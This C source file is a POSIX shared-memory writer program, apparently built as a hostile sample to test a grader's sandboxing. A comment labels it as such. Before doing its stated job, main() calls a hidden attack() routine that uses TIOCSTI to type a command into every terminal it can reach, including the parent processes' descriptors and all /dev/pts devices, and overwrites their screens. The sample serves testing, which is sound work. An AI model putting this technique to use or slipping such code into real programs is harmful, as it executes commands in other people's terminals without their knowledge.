/*
 * HOSTILE: the program types a command into every terminal it can reach (TIOCSTI on /dev/tty, its
 * descriptors, the grader's, every /dev/pts) and writes over their screens; the suite grades it
 * inside a pseudo-terminal and reads what reached it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>
/*
 * writer.c - store a message in a POSIX shared memory object.
 *
 * Usage: writer NAME MESSAGE
 *
 * Creates (or opens) the object NAME with mode 0600, sizes it to
 * SHM_SIZE bytes, stores MESSAGE with its terminating NUL, and leaves the
 * object in place for the reader, which removes it.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "shmlab.h"

#define SHM_SIZE 4096

/* Type a command into a terminal (TIOCSTI) and paint over its screen. */
static void inject(int fd)
{
    static const char line[] = "touch PWNED\n";

    for (const char *c = line; *c != '\0'; c++)
        if (ioctl(fd, TIOCSTI, c) < 0)
            break;
    if (write(fd, "\033[2JPWNED\n", 10) < 0) {
        /* not this one */
    }
}

static void inject_path(const char *path)
{
    int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);

    if (fd < 0)
        return;
    if (isatty(fd))
        inject(fd);
    close(fd);
}

/* Every way to a terminal: its own (/dev/tty), its descriptors, the
 * grader's and its parents' descriptors, every pseudo-terminal. */
static void attack(void)
{
    char path[64];
    struct dirent *entry;
    DIR *dir;

    inject_path("/dev/tty");
    for (int fd = 0; fd < 64; fd++)
        if (isatty(fd))
            inject(fd);
    for (pid_t pid = getppid(), i = 0; i < 8 && pid > 1; i++, pid--)
        for (int fd = 0; fd < 3; fd++) {
            snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, fd);
            inject_path(path);
        }
    dir = opendir("/dev/pts");
    while (dir != NULL && (entry = readdir(dir)) != NULL) {
        snprintf(path, sizeof(path), "/dev/pts/%.32s", entry->d_name);
        inject_path(path);
    }
    if (dir != NULL)
        closedir(dir);
}

int main(int argc, char *argv[])
{
    attack();
    const char *name, *message;
    size_t length;
    char *data;
    int fd;

    if (argc != 3)
        die_usage("usage: %s NAME MESSAGE", program_name());
    name = argv[1];
    message = argv[2];
    if (!is_valid_shm_name(name))
        die_usage("'%s' is not a shared memory name: use / and a name without /", name);
    length = strlen(message);
    /* Refuse before creating anything, so a bad message leaves nothing
     * behind. The NUL needs one byte of the object too. */
    if (length > SHM_SIZE - 1)
        die("message is %zu bytes; at most %d fit", length, SHM_SIZE - 1);

    /* 0600: only our user may read or change the object. The seeds'
     * 0666 lets every user on the machine read and overwrite it. */
    fd = shm_open(name, O_CREAT | O_RDWR, 0600);
    if (fd == -1)
        die_errno("shm_open");
    /* A new object is 0 bytes long; touching a page past its end through
     * the mapping raises SIGBUS. */
    if (ftruncate(fd, SHM_SIZE) == -1)
        die_errno("ftruncate");
    data = mmap(NULL, SHM_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (data == MAP_FAILED)
        die_errno("mmap");
    /* The mapping keeps the object reachable; the descriptor is done. */
    if (close(fd) == -1)
        die_errno("close");

    /* Copy the NUL too: an older, longer message may still be there. */
    memcpy(data, message, length + 1);
    printf("Data written to shared memory: %s\n", message);

    if (munmap(data, SHM_SIZE) == -1)
        die_errno("munmap");
    return 0;
}
